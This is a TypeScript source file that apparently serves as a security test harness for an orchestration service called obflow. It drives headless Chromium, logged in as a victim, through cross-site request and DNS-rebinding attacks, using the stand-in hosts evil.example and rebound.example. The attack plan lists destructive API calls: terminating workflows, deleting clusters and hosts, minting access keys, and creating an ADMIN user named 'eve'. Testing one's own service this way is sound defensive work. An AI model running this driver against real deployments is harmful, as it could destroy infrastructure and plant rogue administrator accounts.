import { once } from 'node:events'
import { readFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import { join } from 'node:path'
import { type BrowserContext, chromium, type Page } from 'playwright-core'
import { z } from 'zod'
import type { Target } from './target.ts'

/** A page of a stranger in the browser of somebody who is logged in to obflow. */

const chrome = [
  '--no-sandbox',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
  '--no-first-run',
  // DNS rebinding: names of the stranger's that lead to this machine.
  '--host-resolver-rules=MAP *.example 127.0.0.1',
]

export interface Victim extends Target {
  readonly api: number
  readonly user: string
  readonly password: string
}

export interface PageReport {
  /** What the stranger's own server was sent by the same page: it did what it should. */
  readonly control: readonly string[]
  /** State-changing calls that a page got an answer of 2xx to. */
  readonly through: readonly string[]
}

const paths = ({ taskId, clusterId, hostId, firstSubtaskId }: Target): readonly string[] => [
  '/api/v1/namespaces/default/workflows/page',
  '/api/v1/namespaces/default/workflows/create-cluster-1/terminate',
  '/api/v2/profiles/me/accessKeys',
  `/api/v2/tasks/instances/${taskId}/rollback`,
  `/api/v2/tasks/instances/${taskId}/retry`,
  `/api/v2/tasks/instances/${taskId}/subtasks/${firstSubtaskId}/skip`,
  `/api/v2/ob/clusters/${clusterId}`,
  `/api/v2/compute/hosts/${hostId}`,
  '/api/v2/iam/users',
]

const bodies = ({ taskId }: Target): readonly string[] => [
  '',
  '{}',
  JSON.stringify({
    workflowType: { name: 'deleteCluster' },
    taskQueue: { name: 'obflow' },
    input: [{ taskId }],
  }),
  JSON.stringify({ username: 'eve', password: 'Eves-words-12', roles: ['ADMIN'] }),
]

interface Plan {
  readonly ports: readonly number[]
  readonly paths: readonly string[]
  readonly bodies: readonly string[]
}

async function ownServer(): Promise<{
  readonly port: number
  readonly seen: string[]
  close(): void
}> {
  const seen: string[] = []
  const server = createServer((incoming, reply) => {
    if (incoming.method !== 'GET')
      seen.push(`${incoming.method} ${incoming.headers['content-type'] ?? ''}`)
    reply.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><body>evil')
  })
  server.on('upgrade', (_, socket) => {
    seen.push('WebSocket')
    socket.destroy()
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  return {
    port: z.object({ port: z.number() }).parse(server.address()).port,
    seen,
    close: () => void server.close(),
  }
}

async function run(
  page: Page,
  name: 'attackFromPage' | 'attackRebound',
  plan: Plan,
): Promise<unknown> {
  await page.evaluate(await readFile(join(import.meta.dirname, 'page.js'), 'utf8'))
  return page.evaluate(`globalThis.${name}(${JSON.stringify(plan)})`)
}

async function rebound(context: BrowserContext, port: number, plan: Plan): Promise<string[]> {
  const page = await context.newPage()
  try {
    await page.goto(`http://rebound.example:${port}/`, { timeout: 10_000 })
    return z.array(z.string()).parse(await run(page, 'attackRebound', plan))
  } catch {
    // Whatever does not even answer a browser is no way in.
    return []
  } finally {
    await page.close()
  }
}

/** Lets a stranger's pages loose in the browser of a user who is logged in. */
export async function attackByPages(victim: Victim): Promise<PageReport> {
  const browser = await chromium.launch({
    executablePath: '/usr/bin/chromium',
    headless: true,
    args: chrome,
  })
  const own = await ownServer()
  try {
    const context = await browser.newContext()
    const login = await context.newPage()
    const remembered = await login.goto(
      `http://${victim.user}:${victim.password}@127.0.0.1:${victim.api}/api/v2/ob/clusters`,
    )
    if (remembered?.status() !== 200)
      throw new Error(`the login of the victim answers ${remembered?.status()}`)
    const plan = {
      ports: [...victim.ports, own.port],
      paths: paths(victim),
      bodies: bodies(victim),
    }
    const page = await context.newPage()
    await page.goto(`http://evil.example:${own.port}/`)
    await run(page, 'attackFromPage', plan)
    const through: string[] = []
    for (const port of victim.ports) through.push(...(await rebound(context, port, plan)))
    return { control: [...new Set(own.seen)].sort(), through }
  } finally {
    own.close()
    await browser.close()
  }
}
